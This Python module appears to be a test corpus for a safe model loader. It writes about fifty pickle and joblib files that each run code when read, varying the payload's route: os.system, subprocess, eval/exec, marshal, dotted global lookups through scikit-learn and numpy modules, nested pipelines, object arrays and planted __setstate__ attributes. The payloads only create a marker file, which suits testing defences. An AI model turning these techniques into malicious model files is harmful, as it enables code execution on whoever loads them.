"""Files that run something when a stock unpickler reads them. What they run makes a marker file."""

import builtins
import cProfile
import importlib
import io
import marshal
import operator
import os
import pickle
import runpy
import subprocess
import timeit
from collections.abc import Callable, Mapping
from functools import partial
from pathlib import Path
from typing import Any

import joblib
import numpy as np
from sklearn.feature_selection import SelectKBest
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import FunctionTransformer, StandardScaler

PROTOCOL_4 = pickle.PROTO + b"\x04"


class Call:
    """Pickles as a call, which happens when the pickle is read. What it returns may be called again."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.reduced = (function, arguments)

    def __reduce__(self) -> Any:
        return self.reduced

    def __call__(self) -> None:
        """Do nothing: pickle asks that what is called be callable."""


class Reduced:
    """Pickles as whatever it is told: a function, its arguments, a state, items."""

    def __init__(self, *reduced: Any) -> None:
        self.reduced = reduced

    def __reduce__(self) -> Any:
        return self.reduced


class SetByExec:
    """Pickles as a text whose state is set by `exec`, the sixth thing that a reduction may name."""

    def __init__(self, source: str) -> None:
        self.source = source

    def __reduce__(self) -> Any:
        return str, (self.source,), {}, None, None, exec


def _shell(marker: Path) -> str:
    return f"touch {marker}"


def _python(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def system(marker: Path) -> Call:
    """The plainest payload."""
    return Call(os.system, _shell(marker))


def dumped(value: Any, compress: Any = 0) -> bytes:
    """Write as joblib does."""
    buffer = io.BytesIO()
    joblib.dump(value, buffer, compress=compress)
    return buffer.getvalue()


def text(value: str) -> bytes:
    """Push a text."""
    return pickle.BINUNICODE + len(value.encode()).to_bytes(4, "little") + value.encode()


def named(module: str, name: str) -> bytes:
    """Push what a name stands for. From protocol 4 on it may be dotted."""
    return text(module) + text(name) + pickle.STACK_GLOBAL


def called(module: str, name: str, *arguments: bytes) -> bytes:
    """Write a whole pickle that calls a function with what is pushed."""
    pushed = pickle.MARK + b"".join(arguments) + pickle.TUPLE
    return PROTOCOL_4 + named(module, name) + pushed + pickle.REDUCE + pickle.STOP


def estimator(module: str, name: str) -> bytes:
    """Push an estimator without attributes."""
    return named(module, name) + pickle.EMPTY_TUPLE + pickle.NEWOBJ


def planted(attribute: str, finish: bytes, marker: Path) -> bytes:
    """Write a function as an attribute, and an operation of pickle's that calls what is named so."""
    state = pickle.EMPTY_DICT + text(attribute) + named("os", "system") + pickle.SETITEM + pickle.BUILD
    made = estimator("sklearn.dummy", "DummyClassifier") + state
    return PROTOCOL_4 + made + text(_shell(marker)) + finish + pickle.STOP


def fitted_elsewhere(marker: Path) -> bytes:
    """Write a distribution of scipy's, which `RandomizedSearchCV` may hold: its state is source code."""
    distribution = type(importlib.import_module("scipy.stats").norm)(name="norm")
    distribution._parse_arg_template = _python(marker)  # noqa: SLF001 - what a payload does
    return pickle.dumps(distribution)


def _second(marker: Path, content: bytes) -> str:
    """Put a file beside the marker, for payloads that read or run another one."""
    path = marker.with_suffix(".second")
    path.write_bytes(content)
    return str(path)


def _saved(marker: Path) -> str:
    buffer = io.BytesIO()
    np.save(buffer, np.array([system(marker)], dtype=object), allow_pickle=True)
    return _second(marker, buffer.getvalue())


def _cloudpickled(marker: Path) -> bytes:
    path = str(marker)

    class Closure:
        def __reduce__(self) -> Any:
            return (lambda: Path(path).touch()), ()

    written: bytes = importlib.import_module("cloudpickle").dumps(Closure())
    return written


def _pipeline(step: Any) -> Pipeline:
    inner = Pipeline([("scale", StandardScaler()), ("step", FunctionTransformer(kw_args={"deep": [step]}))])
    return Pipeline([("inner", inner), ("classify", LogisticRegression())])


def _compiled(marker: Path) -> bytes:
    body = marshal.dumps(compile(_python(marker), "model", "exec"))
    return pickle.dumps(Call(builtins.exec, Call(marshal.loads, body)))


CORPUS: Mapping[str, Callable[[Path], bytes]] = {
    "os.system": lambda marker: pickle.dumps(system(marker)),
    "os.system, protocol 0": lambda marker: pickle.dumps(system(marker), protocol=0),
    "os.system, protocol 2": lambda marker: pickle.dumps(system(marker), protocol=2),
    "os.system, protocol 5": lambda marker: pickle.dumps(system(marker), protocol=5),
    "os.system, joblib": lambda marker: dumped(system(marker)),
    **{
        f"os.system, joblib, {name}": partial(lambda name, marker: dumped(system(marker), (name, 3)), name)
        for name in ("zlib", "gzip", "bz2", "lzma", "xz")
    },
    "os.popen": lambda marker: pickle.dumps(Call(os.popen, _shell(marker))),
    "subprocess.Popen": lambda marker: pickle.dumps(Call(subprocess.Popen, ["touch", str(marker)])),
    "subprocess.check_output": lambda marker: pickle.dumps(Call(subprocess.check_output, ["touch", str(marker)])),
    "builtins.eval": lambda marker: pickle.dumps(Call(builtins.eval, _python(marker))),
    "builtins.exec": lambda marker: pickle.dumps(Call(builtins.exec, _python(marker))),
    "builtins.exec, protocol 2": lambda marker: pickle.dumps(Call(builtins.exec, _python(marker)), protocol=2),
    "builtins.open": lambda marker: pickle.dumps(Call(builtins.open, str(marker), "w")),
    "builtins.getattr of __import__": lambda marker: pickle.dumps(
        Call(Call(getattr, Call(builtins.__import__, "os"), "system"), _shell(marker))
    ),
    "builtins.map": lambda marker: pickle.dumps(Call(list, Call(map, os.system, [_shell(marker)]))),
    "functools.partial": lambda marker: pickle.dumps(Call(partial(os.system, _shell(marker)))),
    "operator.methodcaller": lambda marker: pickle.dumps(
        Call(Call(operator.methodcaller, "system", _shell(marker)), Call(importlib.import_module, "os"))
    ),
    "operator.attrgetter": lambda marker: pickle.dumps(
        Call(Call(Call(operator.attrgetter, "system"), Call(importlib.import_module, "os")), _shell(marker))
    ),
    "runpy.run_path": lambda marker: pickle.dumps(Call(runpy.run_path, _second(marker, _python(marker).encode()))),
    "timeit.timeit": lambda marker: pickle.dumps(Call(timeit.timeit, "pass", _python(marker), timeit.default_timer, 1)),
    "cProfile.run": lambda marker: pickle.dumps(Call(cProfile.run, _python(marker), str(marker) + ".profile")),
    "marshal.loads": _compiled,
    "pickle.loads": lambda marker: pickle.dumps(Call(pickle.loads, pickle.dumps(system(marker)))),
    "joblib.load of another file": lambda marker: pickle.dumps(
        Call(joblib.load, _second(marker, dumped(system(marker))))
    ),
    "numpy.load of another file": lambda marker: pickle.dumps(Call(np.load, _saved(marker), None, 1)),
    "cloudpickle": _cloudpickled,
    "a scipy distribution": fitted_elsewhere,
    "numpy.testing's runstring": lambda marker: called(
        "numpy.testing._private.utils", "runstring", text(_python(marker)), pickle.EMPTY_DICT
    ),
    "numpy.f2py's myeval": lambda marker: called("numpy.f2py.crackfortran", "myeval", text(_python(marker))),
    "a helper of scikit-learn's tests": lambda marker: called(
        "sklearn.utils._testing", "assert_run_python_script_without_output", text(_python(marker))
    ),
    "dotted, sklearn.datasets._base": lambda marker: called(
        "sklearn.datasets._base", "os.system", text(_shell(marker))
    ),
    "dotted, sklearn.base": lambda marker: called("sklearn.base", "inspect.os.system", text(_shell(marker))),
    "dotted, a module of estimators": lambda marker: called(
        "sklearn.linear_model._base", "np.lib._npyio_impl.os.system", text(_shell(marker))
    ),
    "dotted, an estimator's globals": lambda marker: (
        called("sklearn.pipeline", "Pipeline.fit.__globals__.__class__.__base__.__subclasses__")[:-1]
        + pickle.POP
        + pickle.dumps(system(marker))[2:]
    ),
    "dotted, joblib.parallel": lambda marker: called("joblib.parallel", "os.system", text(_shell(marker))),
    "dotted, joblib.numpy_pickle": lambda marker: called("joblib.numpy_pickle", "os.system", text(_shell(marker))),
    "a class where it was only imported": lambda marker: (
        PROTOCOL_4
        + estimator("sklearn.linear_model._ridge", "LabelBinarizer")
        + pickle.POP
        + called("os", "system", text(_shell(marker)))[2:]
    ),
    "an object array": lambda marker: dumped(np.array([1, "a", system(marker)], dtype=object)),
    "an object array, plain pickle": lambda marker: pickle.dumps(np.array([system(marker)], dtype=object)),
    "an object array within an object array": lambda marker: dumped(
        np.array([np.array([system(marker), 1], dtype=object), None], dtype=object)
    ),
    "an estimator's attribute": lambda marker: dumped(SelectKBest(system(marker))),
    "a function's place": lambda marker: dumped(FunctionTransformer(system(marker))),
    "a pipeline in a pipeline": lambda marker: dumped(_pipeline(system(marker))),
    "a pipeline in a pipeline, zlib": lambda marker: dumped(_pipeline(system(marker)), 3),
    "an object array in a pipeline": lambda marker: dumped(_pipeline(np.array([system(marker)], dtype=object))),
    "a dict's key": lambda marker: dumped({system(marker): 1}),
    "a state set by a function": lambda marker: pickle.dumps(SetByExec(_python(marker))),
    "an instance of Python 2's": lambda marker: b"(S'" + _shell(marker).encode() + b"'\nios\nsystem\n.",
    "an object of Python 2's": lambda marker: b"(cos\nsystem\nS'" + _shell(marker).encode() + b"'\no.",
    "a name of Python 2's": lambda marker: b"ccommands\ngetoutput\n(V" + _shell(marker).encode() + b"\ntR.",
    "an attribute named __setstate__": lambda marker: planted("__setstate__", pickle.BUILD, marker),
    "an attribute named append": lambda marker: planted("append", pickle.APPEND, marker),
}
"""Each by its name: what writes the file, given the marker's path."""
